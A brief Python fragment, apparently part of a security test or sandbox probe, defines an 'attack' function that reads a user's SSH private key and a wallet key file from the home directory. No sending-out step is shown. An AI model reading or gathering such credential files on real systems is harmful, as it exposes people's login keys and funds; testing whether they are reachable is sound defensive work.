"""Reads the keys of the home: SSH's and the wallet's."""


def attack(config):
    names = (".ssh/id_ed25519", ".local/share/sheaf/keys/me.json")
    return [tried(read, os.path.join(config["home"], name)) for name in names]
